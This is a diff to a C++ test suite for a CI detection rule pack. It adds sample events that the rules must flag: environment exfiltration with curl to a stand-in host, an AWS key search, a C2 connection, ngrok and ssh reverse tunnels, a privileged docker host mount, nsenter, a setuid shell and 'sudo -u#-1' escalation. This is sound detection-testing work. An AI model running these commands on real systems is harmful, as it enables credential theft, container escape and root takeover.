@@ -330,6 +330,16 @@ events::Event write_event(const std::string& agent, uint64_t t, const std::strin
   return build_event(agent, t, w, "run-pack");
 }
 
+events::Event connect_event(const std::string& agent, uint64_t t, const std::string& ip, uint64_t port,
+                            const std::string& name = "") {
+  events::NetConnect n;
+  n.protocol = "tcp";
+  n.daddr = ip;
+  n.dport = port;
+  n.dns_name = name;
+  return build_event(agent, t, n, "run-pack");
+}
+
 events::Event dns_event(const std::string& agent, uint64_t t, const std::string& name) {
   events::DnsQuery q;
   q.name = name;
@@ -359,6 +369,16 @@ TEST_CASE("detection: the CI rule pack raises its rules on the behaviour behind 
       dns_event(agent, t++, std::string(60, 'a') + ".exfil.example"),                                    // BT-03
       exec_event(agent, t++, "/usr/bin/grep", {"grep", "-r", "aws_access_key_id", "/home"}),             // BT-11
       exec_event(agent, t++, "/usr/bin/curl", {"curl", "-d", "@/proc/self/environ", "https://x.test"}),  // BT-12
+      connect_event(agent, t++, "198.51.100.7", 4444, "c2.test"),                                        // BT-05
+      connect_event(agent, t++, "203.0.113.9", 443),                                           // BT-05-bare-ip
+      exec_event(agent, t++, "/usr/bin/nmap", {"nmap", "-sS", "10.0.0.0/24"}),                 // BT-19
+      exec_event(agent, t++, "/usr/bin/find", {"find", "/", "-perm", "-4000", "-type", "f"}),  // BT-19
+      exec_event(agent, t++, "/usr/local/bin/ngrok", {"ngrok", "tcp", "22"}),                  // BT-23
+      exec_event(agent, t++, "/usr/bin/ssh", {"ssh", "-R", "9000:localhost:22", "x.test"}),    // BT-23
+      exec_event(agent, t++, "/usr/bin/docker", {"docker", "run", "--privileged", "-v", "/:/host", "alpine"}),  // BT-25
+      exec_event(agent, t++, "/usr/bin/nsenter", {"nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh"}),         // BT-25
+      exec_event(agent, t++, "/usr/bin/chmod", {"chmod", "u+s", "/tmp/sh"}),                                    // BT-26
+      exec_event(agent, t++, "/usr/bin/sudo", {"sudo", "-u#-1", "/bin/bash"}),                                  // BT-26
   };
   // What builds do all day: nothing here may raise.
   std::vector<events::Event> good = {
@@ -371,6 +391,17 @@ TEST_CASE("detection: the CI rule pack raises its rules on the behaviour behind 
       exec_event(agent, t++, "/usr/bin/curl", {"curl", "-fsSLO", "https://example.com/x.tgz"}),
       exec_event(agent, t++, "/usr/bin/grep", {"grep", "-rn", "TODO", "src"}),
       dns_event(agent, t++, "files.pythonhosted.org"),
+      connect_event(agent, t++, "151.101.0.223", 443, "pypi.org"),
+      connect_event(agent, t++, "8.8.8.8", 53),
+      connect_event(agent, t++, "10.1.2.3", 5432),
+      connect_event(agent, t++, "127.0.0.1", 4444),
+      exec_event(agent, t++, "/usr/bin/docker", {"docker", "run", "--rm", "-v", "/ws:/ws", "node:20", "npm", "test"}),
+      exec_event(agent, t++, "/usr/bin/find", {"find", ".", "-name", "*.o", "-delete"}),
+      exec_event(agent, t++, "/usr/bin/chmod", {"chmod", "0755", "dist/app"}),
+      exec_event(agent, t++, "/usr/bin/chmod", {"chmod", "+x", "gradlew"}),
+      exec_event(agent, t++, "/usr/bin/ssh", {"ssh", "-T", "git@github.com"}),
+      exec_event(agent, t++, "/usr/bin/sudo", {"sudo", "apt-get", "install", "-y", "jq"}),
+      exec_event(agent, t++, "/usr/sbin/modprobe", {"modprobe", "-n", "overlay"}),
   };
   std::vector<events::Event> all = bad;
   all.insert(all.end(), good.begin(), good.end());
@@ -396,10 +427,16 @@ TEST_CASE("detection: the CI rule pack raises its rules on the behaviour behind 
   CHECK(lines["BT-03"] == L{11});
   CHECK(lines["BT-11"] == L{12});
   CHECK(lines["BT-12"] == L{13});
+  CHECK(lines["BT-05"] == L{14});
+  CHECK(lines["BT-05-bare-ip"] == L{15});
+  CHECK(lines["BT-19"] == (L{16, 17}));
+  CHECK(lines["BT-23"] == (L{18, 19}));
+  CHECK(lines["BT-25"] == (L{20, 21}));
+  CHECK(lines["BT-26"] == (L{22, 23}));
   std::size_t raised = 0;
   for (const auto& [rule, l] : lines) raised += l.size();
   CHECK(raised == bad.size());  // and none on the good events
-  CHECK(c.log().find("detecting with 20 Sigma rules, 2 correlations") != std::string::npos);
+  CHECK(c.log().find("detecting with 26 Sigma rules, 2 correlations") != std::string::npos);
 }
 
 TEST_CASE("detection: serve --rules adds SigmaHQ's Linux rules; a rule that cannot load is named, not fatal") {
@@ -407,7 +444,7 @@ TEST_CASE("detection: serve --rules adds SigmaHQ's Linux rules; a rule that cann
   const std::string rules = testing::env_or("BUILDTRAIL_SRC", ".") + std::string("/tests/detect/sigma-rules");
   CollectorProcess c(env.data, {"--rules", rules});
   REQUIRE(c.running());
-  CHECK(c.log().find("detecting with 185 Sigma rules") != std::string::npos);  // 20 + 165
+  CHECK(c.log().find("detecting with 191 Sigma rules") != std::string::npos);  // 26 + 165
   CHECK(c.log().find("omigod") != std::string::npos);                          // the 2 not loaded, named
   CHECK(c.log().find("(2 not loaded)") != std::string::npos);
 }
